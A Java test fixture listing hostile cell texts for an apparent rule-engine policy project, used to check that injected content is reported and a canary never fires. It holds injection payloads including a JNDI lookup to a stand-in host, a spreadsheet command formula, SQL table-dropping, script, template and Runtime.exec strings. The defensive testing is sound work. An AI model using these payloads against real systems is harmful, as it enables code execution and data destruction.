package dev.winnow.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Pattern;

/** What an attacker, or an unlucky copy and paste, may put into a cell. */
public final class HostileTexts {

    private static final String SING = "dev.winnow.policy.Canary.sing()";
    private static final String PROPERTY = "System.setProperty(\"" + Canary.PROPERTY + "\", \"1\")";
    private static final String FILE =
            "new java.io.File(System.getProperty(\"java.io.tmpdir\"), \"" + Canary.FILE + "\").createNewFile()";

    public static final List<String> ALL = List.of(
            // out of a literal
            "0, eval(java.lang.System.exit(1))",
            "0, eval(" + SING + ")",
            "0 || " + SING,
            "0 && " + SING + " == true",
            "\" || true || industry == \"b",
            "\" || " + SING + " || \"a\" == \"a",
            "x\", eval(" + SING + "), \"y",
            "a\\u0022); x(); $o(\\u0022b",
            "a\\u0022 || " + SING + " || \\u0022b",
            "a_x0022_ || " + SING + " || _x0022_b",
            "a\\\" || " + SING + " || \\\"b",
            "\"",
            "\"\"",
            "\\",
            "\\\\\"",
            "'\" + " + SING + " + \"'",
            "\" + " + SING + " + \"",
            "${" + SING + "}",
            "#{" + SING + "}",
            "@{" + SING + "}",
            "$param",
            "$1",
            "$",
            "$lead.getClass()",
            // out of a pattern
            "]) then System.exit(1); end //",
            "x\") then " + SING + "; end rule \"y\" when eval(true",
            "1) then " + SING + "; end rule \"z\" when Lead(1 == 1",
            "1); eval(" + SING,
            "1 from " + SING,
            "x\") from collect(Lead()) $x : Lead(id == \"x",
            "true) or Lead(true",
            // out of a consequence
            "x\"); " + SING + "; findings.row(\"y",
            "x\"); " + PROPERTY + "; findings.row(\"y",
            "x\"); " + FILE + "; findings.row(\"y",
            "1); " + SING + "; findings.set(\"points\", 1",
            "1); " + PROPERTY + "; (",
            "1 + " + FILE,
            SING,
            "new java.lang.ProcessBuilder(\"touch\", \"/tmp/" + Canary.FILE + "\").start()",
            "Runtime.getRuntime().exec(\"touch /tmp/" + Canary.FILE + "\")",
            "drools.halt(); kcontext.getKieRuntime().halt();",
            // out of a comment or a line
            "*/ " + SING + "; /*",
            "/* */ rule \"y\" when then " + SING + "; end /*",
            "x\n" + SING + ";\n//",
            "x\r\nend\r\nrule \"y\" when then " + SING + "; end",
            "x\u2028" + SING + ";",
            "x\u0085" + SING + ";",
            "end\nrule \"y\"\nwhen\nthen\n" + SING + ";\nend\n",
            "function boolean f() { return " + SING + "; }",
            "import static dev.winnow.policy.Canary.sing;",
            "global java.lang.Runtime runtime;",
            "(dialect \"mvel\") " + SING,
            // other languages
            "=1+1;" + SING,
            "=cmd|' /C calc'!A0",
            "{=" + SING + "}",
            "<script>alert(1)</script>",
            "'; DROP TABLE decision; --",
            "{{7*7}}",
            "%{(#a=@java.lang.Runtime@getRuntime())}",
            "${jndi:ldap://evil.example/a}",
            // characters that aren't what they seem
            "\u201D || " + SING + " || \u201C",
            "\uFF02 || " + SING + " || \uFF02",
            "abc\u202E\u2066fed",
            "zero\u200Bwidth\uFEFF",
            "a_x0000_b",
            "a_x0007_b",
            "a_xD800_b",
            "no\u00A0break",
            "(" + "(".repeat(500),
            "\"".repeat(999),
            "x\" || ".repeat(150),
            // words of the rule language, which are words like any other where texts may stand
            "end rule",
            "rule x when then end",
            "// a comment",
            "# a comment",
            "null",
            "eval",
            "true",
            // over a thousand characters: last, as a row of such cells alone reads as blank
            "(x)".repeat(400));

    private static final Pattern WORDS = Pattern.compile("[A-Za-z0-9 /#().,]{1,200}");

    private HostileTexts() {}

    /** Those that no condition, id, number, header or name may hold. */
    static boolean isAlwaysWrong(String text) {
        return !WORDS.matcher(text).matches();
    }

    /** @param expected texts by the cell they stand in */
    static void assertReported(Map<String, String> expected, PolicyFiles files) {
        Map<String, String> silent = new TreeMap<>(expected);
        TestPolicy.problems(files)
                .forEach(problem -> silent.remove(problem.source().toString()));

        assertThat(silent).as("texts at cells that weren't reported").isEmpty();
        assertThat(expected).isNotEmpty();
        Canary.assertSilent();
    }
}
